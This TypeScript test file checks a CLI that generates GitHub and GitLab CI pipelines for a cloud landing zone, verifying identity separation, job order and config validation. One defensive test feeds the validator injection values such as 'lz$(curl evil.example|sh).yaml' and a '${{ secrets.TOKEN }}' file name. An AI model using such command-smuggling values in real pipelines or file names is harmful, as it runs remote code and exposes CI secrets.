import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse, stringify } from "yaml";
import { benchTenantId, generateConfig } from "../../bench/generate-config";
import { validateConfig } from "../../lib/config/load";
import { pipelinePlanOf, renderPipeline } from "../../lib/cli/pipeline";
import { githubWorkflow } from "../../lib/pipeline/github";
import type { PipelinePlan } from "../../lib/pipeline/types";
import { defaultConfigInput, problemsOf, runCli } from "../helpers";

const PROVIDER = "projects/123456789/locations/global/workloadIdentityPools/sovereign-lz/providers/ci-oidc";
const OPERATOR = "ci-operator@op-key-custody.iam.gserviceaccount.com";
const PLATFORM = "ci-platform@slz-ci.iam.gserviceaccount.com";
const OPERATOR_PLAN = "ci-operator-plan@op-key-custody.iam.gserviceaccount.com";
const PLATFORM_PLAN = "ci-platform-reader@slz-ci.iam.gserviceaccount.com";
const deployerOf = (tenant: string) => `deploy-${tenant}@slz-ci.iam.gserviceaccount.com`;
const plannerOf = (tenant: string) => `deploy-${tenant}-plan@slz-ci.iam.gserviceaccount.com`;

/** The default config with `tenants` tenants, shared state, a pipeline section and a deployer per tenant (planners by default, the platform's given). */
function pipelineConfigInput(tenants: number, maxParallel = 20): any {
  const raw = tenants === 2 ? defaultConfigInput() : generateConfig(defaultConfigInput(), tenants);
  raw.state = { backend: "gcs", bucket: "slz-tfstate-paris" };
  raw.pipeline = {
    workloadIdentityProvider: PROVIDER,
    operatorServiceAccount: OPERATOR,
    platformServiceAccount: PLATFORM,
    platformPlanServiceAccount: PLATFORM_PLAN,
    maxParallel,
  };
  for (const t of raw.tenants) t.deployer = deployerOf(t.id);
  return raw;
}
const planFor = (tenants: number, maxParallel = 20) => pipelinePlanOf(validateConfig(pipelineConfigInput(tenants, maxParallel)), "landing-zone.yaml");

type Mode = "plan" | "apply";

/** The identity each stack's job must use, by mode. */
function expectedIdentity(stack: string, mode: Mode): string {
  const tenant = stack.replace(/^tenant-/, "");
  if (stack === "key-custody") return mode === "plan" ? OPERATOR_PLAN : OPERATOR;
  if (stack === "foundation") return mode === "plan" ? PLATFORM_PLAN : PLATFORM;
  return mode === "plan" ? plannerOf(tenant) : deployerOf(tenant);
}

/** One stack job after matrix expansion. */
interface StackJobView {
  readonly id: string;
  readonly mode: Mode;
  readonly stack: string;
  readonly environment: string;
  readonly needs: string[];
  readonly identity: string | undefined;
  readonly maxParallel?: number;
  /** The YAML text of the job as it runs (its matrix entry only). */
  readonly text: string;
}

/** Every GitHub stack job after matrix expansion. */
function githubJobs(workflow: any): StackJobView[] {
  return Object.entries<any>(workflow.jobs)
    .filter(([id]) => id !== "synth")
    .flatMap(([id, job]) => {
      const mode: Mode = job.if === "github.event_name == 'pull_request'" ? "plan" : "apply";
      const auth = job.steps.find((step: any) => String(step.uses).startsWith("google-github-actions/auth"));
      const entries: any[] = job.strategy?.matrix?.include ?? [{}];
      return entries.map((entry) => {
        const subst = (v: string | undefined) =>
          v?.replace("${{ matrix.stack }}", entry.stack).replace("${{ matrix.service_account }}", entry.service_account);
        const environment = subst(job.environment)!;
        return {
          id,
          mode,
          stack: environment.replace(/-plan$/, ""),
          environment,
          needs: job.needs ?? [],
          identity: subst(auth?.with.service_account),
          maxParallel: job.strategy?.["max-parallel"],
          text: stringify({ ...job, strategy: undefined }) + stringify(entry),
        };
      });
    });
}

/** Every GitLab stack job. */
function gitlabJobs(doc: any): StackJobView[] {
  return Object.entries<any>(doc)
    .filter(([, job]) => job?.extends === ".plan" || job?.extends === ".apply")
    .map(([id, job]) => ({
      id,
      mode: job.extends === ".plan" ? "plan" : "apply",
      stack: job.variables?.STACK,
      environment: job.environment?.name,
      needs: job.needs.map((n: any) => n.job),
      identity: job.variables?.SERVICE_ACCOUNT,
      text: stringify(job),
    }));
}

/**
 * What is wrong with the identities of a pipeline's jobs: a job whose identity is not its stack's for its mode (a plan
 * job with an apply identity, a job with another role's identity), a job whose environment is not its stack's for its
 * mode, or a job whose text names any other identity of the landing zone.
 */
function identityViolations(jobs: readonly StackJobView[], plan: PipelinePlan): string[] {
  const all = plan.stacks.flatMap((s) => [s.identity, s.planIdentity]);
  const applies = new Set(plan.stacks.map((s) => s.identity));
  const out: string[] = [];
  for (const j of jobs) {
    const own = expectedIdentity(j.stack, j.mode);
    if (j.identity !== own) out.push(`${j.id} (${j.stack}, ${j.mode}) uses ${j.identity}, not ${own}`);
    if (j.mode === "plan" && j.identity && applies.has(j.identity)) out.push(`${j.id} plans with an apply identity ${j.identity}`);
    if (j.environment !== (j.mode === "plan" ? `${j.stack}-plan` : j.stack)) out.push(`${j.id} runs in environment ${j.environment}`);
    for (const other of all.filter((i) => i !== own)) if (j.text.includes(other)) out.push(`${j.id} names ${other}`);
  }
  return out;
}

describe("sovereign-lz pipeline github", () => {
  for (const tenants of [1, 2, 200]) {
    describe(`${tenants} tenant(s)`, () => {
      const plan = planFor(tenants);
      const workflow = parse(githubWorkflow(plan));
      const jobs = githubJobs(workflow);

      it("has a plan job and an apply job per stack, each in dependency order: key-custody, foundation, then the tenants", () => {
        for (const mode of ["plan", "apply"] as const) {
          const ofMode = jobs.filter((j) => j.mode === mode);
          expect(ofMode.map((j) => j.stack).sort()).toEqual(plan.stacks.map((s) => s.stack).sort());
          expect(ofMode).toHaveLength(tenants + 2);
          const id = (stack: string) => (mode === "plan" ? `plan-${stack}` : stack);
          const needsOf = (stack: string) => ofMode.find((j) => j.stack === stack)!.needs;
          expect(needsOf("key-custody")).toEqual(["synth"]);
          expect(needsOf("foundation")).toEqual(["synth", id("key-custody")]);
          for (const j of ofMode.filter((x) => x.stack.startsWith("tenant-"))) {
            expect(j.needs).toEqual(["synth", id("key-custody"), id("foundation")]);
            expect(j.maxParallel).toBe(Math.min(20, plan.maxParallel));
          }
        }
      });

      it("gates everything on the credential-less synth and sovereignty check", () => {
        const synth = workflow.jobs.synth;
        expect(synth.permissions).not.toHaveProperty("id-token");
        expect(synth.steps.map((s: any) => s.run ?? s.uses).join("\n")).toMatch(/sovereign-lz check cdktf\.out .*--format sarif/);
        expect(jobs.every((j) => j.needs[0] === "synth")).toBe(true);
        expect(synth.steps.some((s: any) => s.uses?.startsWith("google-github-actions/auth"))).toBe(false);
      });

      it("plans with read-only identities only, applies with apply identities only, and no job names another role's identity", () => {
        expect(identityViolations(jobs, plan)).toEqual([]);
        expect(new Set(jobs.map((j) => j.environment)).size).toBe(jobs.length);
      });

      it("plans on pull requests into the branch and applies on pushes to it, with state per stack", () => {
        expect(workflow.on).toEqual({ pull_request: { branches: ["main"] }, push: { branches: ["main"] } });
        const runs = (id: string) =>
          workflow.jobs[id].steps
            .map((step: any) => step.run)
            .filter(Boolean)
            .join("\n");
        expect(workflow.jobs["plan-key-custody"].if).toBe("github.event_name == 'pull_request'");
        expect(runs("plan-key-custody")).toMatch(/-chdir=cdktf\.out\/stacks\/key-custody plan /);
        expect(runs("plan-key-custody")).not.toMatch(/ apply /);
        expect(workflow.jobs["key-custody"].if).toBe("github.event_name == 'push'");
        expect(runs("key-custody")).toMatch(/-chdir=cdktf\.out\/stacks\/key-custody apply .*-auto-approve/);
      });
    });
  }

  it("splits more tenants than one matrix takes into matrices that together keep the cap", () => {
    const workflow = parse(githubWorkflow(planFor(5, 4), { matrixLimit: 2 }));
    const tenantJobs = Object.keys(workflow.jobs).filter((id) => id.startsWith("tenants"));
    expect(tenantJobs).toEqual(["tenants-1", "tenants-2", "tenants-3"]);
    expect(Object.keys(workflow.jobs).filter((id) => id.startsWith("plan-tenants"))).toEqual(["plan-tenants-1", "plan-tenants-2", "plan-tenants-3"]);
    const caps = tenantJobs.map((id) => workflow.jobs[id].strategy["max-parallel"]);
    expect(caps.reduce((a, b) => a + b, 0)).toBeLessThanOrEqual(4);
    expect(tenantJobs.flatMap((id) => workflow.jobs[id].strategy.matrix.include.map((e: any) => e.stack))).toEqual(
      [0, 1, 2, 3, 4].map((i) => `tenant-${benchTenantId(i)}`),
    );
  });
});

describe("sovereign-lz pipeline gitlab", () => {
  for (const tenants of [1, 2, 200]) {
    it(`${tenants} tenant(s): a plan and an apply job per stack in order, capped tenant lanes, each with its own identity`, () => {
      const plan: PipelinePlan = planFor(tenants);
      const doc = parse(renderPipeline("gitlab", plan));
      const jobs = gitlabJobs(doc);
      for (const mode of ["plan", "apply"] as const) {
        const id = (stack: string) => (mode === "plan" ? `plan-${stack}` : stack);
        const ofMode = jobs.filter((j) => j.mode === mode);
        expect(ofMode.map((j) => j.id)).toEqual(plan.stacks.map((s) => id(s.stack)));
        const lanes = new Set<string>();
        for (const j of ofMode) {
          if (j.stack === "key-custody") expect(j.needs).toEqual(["synth"]);
          else if (j.stack === "foundation") expect(j.needs).toEqual(["synth", id("key-custody")]);
          else {
            expect(j.needs).toEqual(["synth", id("key-custody"), id("foundation")]);
            lanes.add(doc[j.id].resource_group);
          }
        }
        expect(lanes.size).toBe(Math.min(tenants, 20));
      }
      expect(identityViolations(jobs, plan)).toEqual([]);
      expect(doc["plan-key-custody"].environment).toEqual({ name: "key-custody-plan", action: "prepare" });
      expect(doc["key-custody"].environment).toEqual({ name: "key-custody" });
      for (const template of [".stack", ".plan", ".apply"]) expect(stringify(doc[template])).not.toMatch(/@.*iam\.gserviceaccount\.com/);
      expect(doc.synth.script.join("\n")).toMatch(/sovereign-lz check cdktf\.out .*--format sarif/);
      expect(doc.synth).not.toHaveProperty("id_tokens");
      expect(doc[".plan"].rules).toEqual([{ if: expect.stringMatching(/^\$CI_PIPELINE_SOURCE == "merge_request_event" && /) }]);
      expect(doc[".plan"].script.join("\n")).not.toMatch(/apply/);
      expect(doc[".apply"].rules).toEqual([{ if: '$CI_PIPELINE_SOURCE != "merge_request_event" && $CI_COMMIT_BRANCH == "main"' }]);
      expect(doc[".apply"].script.join("\n")).toMatch(/apply -input=false -auto-approve/);
    });
  }
});

describe("the identity check of the tests catches what it must (negative)", () => {
  const plan = planFor(2);
  const github = () => parse(githubWorkflow(plan));
  const gitlab = () => parse(renderPipeline("gitlab", plan));

  it("a plan job given its role's apply identity", () => {
    const workflow = github();
    workflow.jobs["plan-key-custody"].steps.find((s: any) => s.uses?.startsWith("google-github-actions/auth")).with.service_account = OPERATOR;
    expect(identityViolations(githubJobs(workflow), plan)).toEqual(
      expect.arrayContaining([
        `plan-key-custody (key-custody, plan) uses ${OPERATOR}, not ${OPERATOR_PLAN}`,
        `plan-key-custody plans with an apply identity ${OPERATOR}`,
      ]),
    );
    const doc = gitlab();
    doc["plan-tenant-agence-b"].variables.SERVICE_ACCOUNT = deployerOf("agence-b");
    expect(identityViolations(gitlabJobs(doc), plan)).toContain(`plan-tenant-agence-b plans with an apply identity ${deployerOf("agence-b")}`);
  });

  it("a job given another role's identity, or another tenant's, or another stack's environment", () => {
    const workflow = github();
    workflow.jobs["plan-tenants"].strategy.matrix.include[0].service_account = plannerOf("agence-b");
    workflow.jobs.foundation.environment = "key-custody";
    const violations = identityViolations(githubJobs(workflow), plan);
    expect(violations).toContain(`plan-tenants (tenant-ministere-a, plan) uses ${plannerOf("agence-b")}, not ${plannerOf("ministere-a")}`);
    expect(violations).toContain(`foundation (key-custody, apply) uses ${PLATFORM}, not ${OPERATOR}`);
    const doc = gitlab();
    doc["key-custody"].variables.SERVICE_ACCOUNT = PLATFORM;
    doc.foundation.script = [`echo ${OPERATOR}`];
    const gitlabViolations = identityViolations(gitlabJobs(doc), plan);
    expect(gitlabViolations).toContain(`key-custody (key-custody, apply) uses ${PLATFORM}, not ${OPERATOR}`);
    expect(gitlabViolations).toContain(`foundation names ${OPERATOR}`);
  });

  it("a plan job in the apply environment", () => {
    const workflow = github();
    workflow.jobs["plan-foundation"].environment = "foundation";
    expect(identityViolations(githubJobs(workflow), plan)).toEqual(["plan-foundation runs in environment foundation"]);
  });
});

describe("a config not ready for a pipeline", () => {
  it("lists every missing piece at once: shared state, the pipeline section, each tenant's deployer", () => {
    const raw = defaultConfigInput();
    expect(() => pipelinePlanOf(validateConfig(raw), "lz.yaml")).toThrow(
      /state\.backend: "local" cannot be shared by CI jobs[\s\S]*pipeline: missing[\s\S]*tenants\[0\]\.deployer: missing/,
    );
  });

  it("refuses a config path that would run in the jobs' shell commands, and takes a plain one", () => {
    const config = validateConfig(pipelineConfigInput(1));
    expect(pipelinePlanOf(config, "config/landing-zone.prod.yaml").configPath).toBe("config/landing-zone.prod.yaml");
    for (const path of ["my lz.yaml", "lz$(curl evil.example|sh).yaml", "lz-${{ secrets.TOKEN }}.yaml", "--help"]) {
      expect(() => pipelinePlanOf(config, path)).toThrow(`--config: ${JSON.stringify(path)} cannot be written into the pipeline's shell commands`);
    }
  });

  it("refuses one identity for two roles, and a malformed provider", () => {
    expect(
      problemsOf((c) => {
        Object.assign(c, pipelineConfigInput(2));
        c.pipeline.platformServiceAccount = OPERATOR;
        c.tenants[1].deployer = OPERATOR;
      }),
    ).toEqual([
      `pipeline.platformServiceAccount: "${OPERATOR}" is already the identity of the operator (allowed: one identity per role, to apply and to plan)`,
      `tenants[1].deployer: "${OPERATOR}" is already the identity of the operator (allowed: one identity per role, to apply and to plan)`,
      `tenants[1].planner: "${OPERATOR_PLAN}" is already the identity of the operator (plan) (allowed: one identity per role, to apply and to plan)`,
    ]);
  });

  it("refuses a plan identity that is an apply identity or another role's, and one it cannot derive", () => {
    expect(
      problemsOf((c) => {
        Object.assign(c, pipelineConfigInput(2));
        c.pipeline.operatorPlanServiceAccount = OPERATOR;
        c.tenants[0].planner = PLATFORM_PLAN;
        c.tenants[1].deployer = "a-deployer-with-a-long-name26@slz-ci.iam.gserviceaccount.com";
      }),
    ).toEqual([
      `pipeline.operatorPlanServiceAccount: "${OPERATOR}" is already the identity of the operator (allowed: one identity per role, to apply and to plan)`,
      `tenants[0].planner: "${PLATFORM_PLAN}" is already the identity of the platform (plan) (allowed: one identity per role, to apply and to plan)`,
      'tenants[1].planner: missing, and "a-deployer-with-a-long-name26@slz-ci.iam.gserviceaccount.com" is too long to derive one (allowed: a service account email of a read-only identity)',
    ]);
    expect(
      problemsOf((c) =>
        Object.assign(c, pipelineConfigInput(2), {
          tenants: [{ ...pipelineConfigInput(2).tenants[0], planner: "x" }, pipelineConfigInput(2).tenants[1]],
        }),
      ),
    ).toEqual(expect.arrayContaining([expect.stringMatching(/^tenants\[0\]\.planner: "x" must be a service account email/)]));
    expect(
      problemsOf((c) =>
        Object.assign(c, pipelineConfigInput(2), { pipeline: { ...pipelineConfigInput(2).pipeline, workloadIdentityProvider: "ci" } }),
      ),
    ).toEqual([expect.stringMatching(/^pipeline\.workloadIdentityProvider: "ci" must be a provider name projects\/<project number>/)]);
  });

  it("on the command line: exit 1 with every problem, exit 2 on a wrong target, and writes the file when ready", () => {
    const dir = mkdtempSync(join(tmpdir(), "lz-pipeline-"));
    const bad = join(dir, "bad.yaml");
    writeFileSync(bad, stringify(defaultConfigInput()));
    const refused = runCli("pipeline", "github", "--config", bad);
    expect(refused.code).toBe(1);
    expect(refused.err).toMatch(/3 problem\(s\)[\s\S]*tenants\[0\]\.deployer: missing/);
    expect(runCli("pipeline", "jenkins", "--config", bad).code).toBe(2);
    const good = join(dir, "good.yaml");
    writeFileSync(good, stringify(pipelineConfigInput(2)));
    const out = join(dir, "ci.yml");
    expect(runCli("pipeline", "gitlab", "--config", good, "--out", out)).toMatchObject({ code: 0, out: `${out}: 4 stack jobs` });
    expect(parse(readFileSync(out, "utf8"))["tenant-ministere-a"].variables.SERVICE_ACCOUNT).toBe(deployerOf("ministere-a"));
  });
});
